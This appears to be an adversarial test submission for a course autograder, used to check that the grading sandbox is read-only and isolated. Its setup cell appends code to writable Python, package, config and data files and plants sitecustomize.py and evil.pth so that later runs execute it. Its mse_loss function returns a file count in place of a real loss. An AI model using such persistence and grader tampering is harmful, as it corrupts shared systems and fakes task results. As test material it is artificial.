# title: rewrites the interpreter, the packages, the probe and the course's data
# earns: 0
# keeps: 0
# needs: isolation

# Tries: whoever comes next runs code of this notebook's, or has easier data. Everything that can be
# opened for writing below the interpreter, the probe and the data folder gets a line added. An honest
# grader's sandbox is read-only and never used twice.

# %% + after:setup
import itertools
import os
import sys

line = "\nopen('/tmp/dlgrade-was-here', 'a').close()\n"
written = 0
places = [Path(p) for p in (sys.prefix, np.__path__[0], "/opt/dlgrade", "/etc", "/usr/local", os.environ.get("COURSE_DATA", "/data"))]
for place in places:
    for path in itertools.islice(place.rglob("*"), 2000):
        try:
            if path.is_file() and path.suffix in (".py", ".npy", ".pth", ".cfg", ".conf"):
                with open(path, "a") as file:
                    file.write(line)
                written += 1
        except OSError:
            pass
    for name in ("sitecustomize.py", "evil.pth", "train.npy"):
        try:
            (place / name).write_text(line)
            written += 1
        except OSError:
            pass
print("written", written)

# %% mse_loss
def mse_loss(X, y, w):
    return float(written)
